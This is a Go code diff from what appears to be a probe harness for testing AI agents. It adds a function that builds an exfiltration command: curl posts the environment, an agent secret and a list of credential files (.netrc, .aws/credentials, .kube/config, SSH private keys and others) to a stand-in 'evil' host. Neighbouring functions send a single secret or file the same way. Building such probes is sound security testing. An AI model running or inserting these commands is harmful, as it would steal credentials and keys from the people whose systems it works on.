@@ -19,6 +19,17 @@ func sendVariable(env *probes.Env) string {
 	return "curl -s \"http://" + evil(env) + paths.Build("", paths.Heartbeat, env.Nonce, nil) + "?d=" + secret(env) + "\""
 }
 
+// sendEverything: whatever is in the environment, and in the files in which clients
+// keep credentials → post. The variable that the agent is known to have goes first.
+func sendEverything(env *probes.Env) string {
+	sink := "http://" + evil(env) + paths.Build("", paths.Sink, env.Nonce, nil)
+	files := ""
+	for _, name := range []string{".netrc", ".git-credentials", ".gitconfig", ".npmrc", ".pypirc", ".bash_history", ".aws/credentials", ".config/gh/hosts.yml", ".docker/config.json", ".kube/config", ".ssh/id_rsa", ".ssh/id_ed25519"} {
+		files += " $HOME/" + name + " /root/" + name
+	}
+	return sendVariable(env) + "; env | curl -s -d @- " + sink + "; cat" + files + " | curl -s -d @- " + sink
+}
+
 // sendFile: file → post.
 func sendFile(env *probes.Env) string {
 	return "curl -s -d @" + env.Facts.Agent.SecretIn + " https://" + evil(env) + paths.Build("", paths.Sink, env.Nonce, nil)
